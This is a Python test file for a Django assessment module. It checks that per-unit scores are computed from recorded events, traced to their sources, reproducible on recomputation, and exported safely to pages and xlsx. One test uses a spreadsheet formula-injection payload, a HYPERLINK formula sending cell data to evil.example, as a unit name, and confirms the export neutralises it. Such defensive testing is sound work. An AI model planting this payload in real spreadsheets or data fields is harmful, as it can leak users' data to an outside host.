"""The assessment: points per recorded event, traceable to the event, equal when recomputed."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from luoshi.assessment import services as assessment
from luoshi.assessment.models import AssessmentEntry, AssessmentRules, AssessmentScore
from luoshi.notices import services as notices
from luoshi.notices.models import Instruction, NoticeTarget
from luoshi.plans.models import Item
from luoshi.reports.models import ReportDue
from luoshi.status import services
from luoshi.testing import PASSWORD, World

pytestmark = pytest.mark.django_db


def _due(world: World, item: Item, unit: object, month: int, outcome: str) -> ReportDue:
    return ReportDue.objects.create(
        plan=world.plan,
        item=item,
        unit=unit,
        period=dt.date(2020, month, 1),
        due_date=dt.date(2020, month, 28),
        outcome=outcome,
    )


def _events(world: World) -> None:
    """Unit A: one late and one missing report, a red light, a returned reply. Unit B: praise, done on time."""
    _due(world, world.item_a, world.unit_a, 7, ReportDue.Outcome.LATE)
    _due(world, world.item_a, world.unit_a, 8, ReportDue.Outcome.MISSING)
    _due(world, world.item_a, world.unit_a, 12, ReportDue.Outcome.MISSING)  # due after the date: not counted
    Item.objects.filter(pk=world.item_a.pk).update(progress=10)
    Item.objects.filter(pk=world.item_b.pk).update(progress=100, weight=Decimal("2"))
    services.plan_recompute(plan=world.plan, today=world.plan.today())
    notice = notices.notice_issue(
        item=world.item_a,
        user=world.office,
        units=[world.unit_a],
        title="督办",
        requirement="整改",
        deadline=dt.date(2020, 10, 10),
    )
    target = NoticeTarget.objects.get(notice=notice)
    notices.notice_reply(target=target, user=world.reporter_a, text="已整改")
    notices.notice_reply_return(target=target, user=world.office, reason="不具体")
    notices.instruction_write(
        item=world.item_b, user=world.leader, text="工作扎实，予以表扬", kind=Instruction.Kind.PRAISE
    )


def test_scores_follow_the_rules_event_by_event(world: World) -> None:
    _events(world)
    run = assessment.assessment_compute(plan=world.plan, user=world.office)
    scores = {s.unit_id: s for s in AssessmentScore.objects.filter(run=run)}
    # A: 100 - 0.1 (late) - 0.5 (missing) - 2 (red) - 2 (returned) + 20 * 10% completion
    assert scores[world.unit_a.pk].score == Decimal("97.40")
    # B: 100 + 1 (praise) + 1 * weight 2 (done on time) + 20 * 100%
    assert scores[world.unit_b.pk].score == Decimal("123.00")
    assert (scores[world.unit_b.pk].rank, scores[world.unit_a.pk].rank) == (1, 2)
    kinds = sorted(AssessmentEntry.objects.filter(run=run, unit=world.unit_a).values_list("kind", flat=True))
    assert kinds == ["base", "completion", "late_report", "missing_report", "red_light", "returned_reply"]


def test_every_point_names_its_event_and_the_sum_is_the_score(world: World) -> None:
    _events(world)
    run = assessment.assessment_compute(plan=world.plan, user=world.office)
    for score in run.scores.all():
        entries = AssessmentEntry.objects.filter(run=run, unit=score.unit)
        assert sum(e.points for e in entries) == score.score
        for entry in entries.exclude(kind__in=["base", "completion"]):
            label, pk = entry.source.split(":")
            model = {"reports.reportdue": ReportDue}.get(label)
            if model is not None:
                assert model.objects.filter(pk=int(pk), unit=score.unit).exists()
            else:
                assert label.startswith(("status.", "notices.")) and int(pk) > 0


def test_scores_recomputed_from_events_equal_the_stored_ones(world: World) -> None:
    _events(world)
    run = assessment.assessment_compute(plan=world.plan, user=world.office)
    assert assessment.assessment_verify(run) == {}
    # Changing the rules afterwards does not change a stored run: it keeps the rules it used.
    AssessmentRules.objects.create(plan=world.plan, missing_report=Decimal("-5"))
    assert assessment.assessment_verify(run) == {}
    rerun = assessment.assessment_compute(plan=world.plan, user=world.office)
    assert rerun.scores.get(unit=world.unit_a).score == Decimal("92.90")
    # A new event after the computation shows as a difference, not silently.
    _due(world, world.item_a, world.unit_a, 9, ReportDue.Outcome.LATE)
    assert set(assessment.assessment_verify(rerun)) == {world.unit_a.pk}


def test_the_pages_and_the_xlsx_show_each_point(world: World) -> None:
    _events(world)
    office = Client()
    office.login(username="office", password=PASSWORD)
    response = office.post(f"/plans/{world.plan.code}/assessment/compute/")
    assert response.status_code == 302
    run = world.plan and assessment.AssessmentRun.objects.get()
    page = office.get(f"/assessment/{run.pk}/units/{world.unit_a.pk}/").content.decode()
    assert "97.4" in page and "报送记录 #" in page and "reports.reportdue:" not in page
    book = load_workbook(io.BytesIO(office.get(f"/assessment/{run.pk}/xlsx/").content))
    ranking = list(book.worksheets[0].iter_rows(values_only=True))
    assert [row[1] for row in ranking[1:]] == ["单位乙", "单位甲"]
    assert len(list(book.worksheets[1].iter_rows())) - 1 == AssessmentEntry.objects.filter(run=run).count()
    reporter = Client()
    reporter.login(username="reporter_a", password=PASSWORD)
    assert reporter.get(f"/assessment/{run.pk}/").status_code == 404
    assert reporter.get(f"/plans/{world.plan.code}/assessment/").status_code == 404
    leader = Client()
    leader.login(username="leader", password=PASSWORD)
    assert leader.get(f"/assessment/{run.pk}/").status_code == 200
    assert leader.post(f"/plans/{world.plan.code}/assessment/compute/").status_code == 403


def test_it_writes_a_formula_like_unit_name_as_text(world: World) -> None:
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    world.unit_a.name = hostile
    world.unit_a.save(update_fields=["name"])
    _events(world)
    run = assessment.assessment_compute(plan=world.plan, user=world.office)
    office = Client()
    office.login(username="office", password=PASSWORD)
    book = load_workbook(io.BytesIO(office.get(f"/assessment/{run.pk}/xlsx/").content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = {cell.value for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value}
    assert names == {"'" + hostile}


def test_points_sources_and_dates_read_as_people_write_them(client: Client, world: World) -> None:
    from luoshi.accounts.tests.test_access import login
    from luoshi.assessment.templatetags.assessment import points

    assert [
        points(v)
        for v in (
            Decimal("14.3300000000000"),
            Decimal("-0.300000000000000"),
            Decimal("100.00"),
            Decimal("-0.001"),
        )
    ] == ["14.33", "-0.3", "100", "0"]
    services.plan_recompute(plan=world.plan, today=world.plan.today())
    run = assessment.assessment_compute(plan=world.plan, user=world.office)
    score = run.scores.get(unit=world.unit_a)
    login(client, world.office)
    page = client.get(
        reverse("assessment:assessment_unit", kwargs={"run_id": run.pk, "unit_id": world.unit_a.pk})
    ).content.decode()
    assert "reports.reportdue:" not in page and "status.statusrecord:" not in page
    assert "0000000" not in page
    assert points(score.score) in page
